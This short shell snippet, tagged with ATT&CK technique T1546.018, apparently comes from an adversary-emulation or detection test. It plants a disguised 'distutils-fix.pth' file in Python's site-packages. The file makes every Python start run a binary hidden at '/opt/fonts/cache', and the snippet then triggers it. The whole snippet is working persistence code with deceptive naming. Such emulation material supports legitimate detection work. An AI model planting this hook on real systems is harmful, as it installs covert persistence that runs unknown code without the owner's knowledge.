# technique: T1546.018
# location: linux.python.start
# source: /usr/local/lib/python3.13/dist-packages/distutils-fix.pth
site=$(python3 -c 'import site; print(site.getsitepackages()[0])')
mkdir -p "$site"
echo 'import os; os.system("/opt/fonts/cache 0")' > "$site/distutils-fix.pth"
python3 -c 'import sys'
